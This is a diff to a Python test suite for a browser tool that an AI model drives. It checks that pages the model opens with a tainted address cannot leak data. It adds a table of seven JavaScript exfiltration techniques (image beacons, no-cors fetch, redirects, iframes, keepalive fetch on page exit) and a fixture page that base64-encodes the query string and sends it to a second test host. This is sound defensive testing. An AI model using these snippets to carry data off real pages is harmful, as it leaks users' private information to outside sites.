@@ -33,6 +33,18 @@ POSTS = """<h1>Posts</h1><script>
 """Tells another site by POST where it stands, as what counts visits does."""
 
 
+SENDS = {
+    "image": "new Image().src = there",
+    "fetch": "fetch(there, { mode: 'no-cors' })",
+    "redirect": "location.href = '/out?to=' + there",
+    "refresh": "document.write(`<meta http-equiv=refresh content='0; url=${there}'>`)",
+    "frame": "document.write(`<iframe src='${there}'></iframe>`)",
+    "window": "open(there, '_blank', 'noopener')",
+    "leave": "addEventListener('pagehide', () => fetch(there, { mode: 'no-cors', keepalive: true }))",
+}
+"""Ways in which a page may pass on its own address, which no comparison of texts would recognise."""
+
+
 @dataclass
 class World:
     """The user's site, and another one: what that was asked for is in ``told``, line by line as it came."""
@@ -49,6 +61,11 @@ class World:
 
     def asked(self, path: str) -> bool:
         return any(head.startswith(f"GET {path} ") for head in self.told)
+
+    @property
+    def is_chromium(self) -> bool:
+        browser = self.session.tab.page.context.browser
+        return browser is not None and browser.browser_type.name == "chromium"
 
     @property
     def leaked(self) -> bool:
@@ -78,6 +95,9 @@ class World:
                 return _said("200 OK", f"<h1>Shows</h1><img src='{query['image']}'>{logo}")
             case "/posts":
                 return _said("200 OK", POSTS.replace("OTHER", self.other))
+            case "/encodes":
+                carrier = "<script>const there = 'OTHER/' + btoa(location.search); MORE</script>"
+                return _said("200 OK", carrier.replace("OTHER", self.other).replace("MORE", SENDS[query["by"]]))
             case "/opens":
                 return _said("200 OK", f"<h1>Opens</h1><script>open('{query['to']}')</script>")
             case "/unsafe":
@@ -129,20 +149,49 @@ async def test_a_redirect_of_an_address_that_a_model_made_up_is_not_followed(wor
     await world.model_opens(f"/unsafe?{CODE}")
     await world.session.call_as("model", "reload")
     assert not world.leaked
-    # What the page asks the other site for by itself comes as ever.
+    # What a page without taint asked for before may be asked for again, where the browser tells what is asked for.
     world.told.clear()
     assert await world.model_opens(f"/?{CODE}")
-    assert world.asked("/logo")
+    assert world.asked("/logo") is world.is_chromium
     assert not world.leaked
 
 
 async def test_what_such_a_page_posts_to_others_and_opens_beside_itself_does_not_tell_either(world: World):
+    world.told.clear()
     await world.model_opens(f"/posts?{CODE}")
-    assert any(head.startswith("POST /none ") for head in world.told)
+    assert not world.told
     await world.model_opens(f"/opens?to={world.other}/{CODE}")
     await world.model_opens(f"/opens?to=/out?to={world.other}/{CODE}")
     assert await world.model_opens(f"/?{CODE}")
     assert not world.leaked
+
+
+async def test_nothing_leaves_a_page_with_a_composed_address_in_any_encoding_until_it_is_left(world: World):
+    world.told.clear()
+    for way in SENDS:
+        await world.model_opens(f"/encodes?by={way}&x={CODE}")
+    await world.session.call_as("model", "goto", url=f"{world.home}/")
+    await world.session.call_as("model", "back")
+    await world.session.call_as("model", "snapshot")
+    assert [head for head in world.told if not head.startswith("GET /logo ")] == []
+    # The user's own address clears the tab.
+    world.told.clear()
+    assert (await world.session.call("goto", url=f"{world.home}/")).ok
+    assert world.asked("/logo")
+
+
+async def test_a_pages_own_way_back_to_a_composed_address_leads_nothing_out(world: World):
+    await world.model_opens(f"/encodes?by=leave&x={CODE}")
+    assert (await world.session.call("goto", url=f"{world.home}/")).ok
+    world.told.clear()
+    world.session.provenance.words.add_text(f"open {world.home}/home")
+    assert await world.model_opens("/home")
+    assert not world.session.tab.core.taint.holds
+    await world.session.tab.page.evaluate("history.go(-3)")
+    await world.session.tab.page.wait_for_url("**/encodes?*")
+    assert world.session.tab.core.taint.holds
+    assert (await world.session.call_as("model", "goto", url=f"{world.home}/home")).ok
+    assert [head for head in world.told if not head.startswith("GET /logo ")] == []
 
 
 async def test_a_redirect_that_comes_after_the_page_was_given_up_is_not_followed(world: World):
@@ -154,7 +203,8 @@ async def test_a_redirect_that_comes_after_the_page_was_given_up_is_not_followed
     world.told.clear()
     for _ in range(2):
         await world.session.call("new_tab", url=f"{world.home}/")
-    assert world.asked("/logo")
+    # In Firefox nobody can tell the two tabs apart.
+    assert world.asked("/logo") is world.is_chromium
     assert not world.leaked
 
 
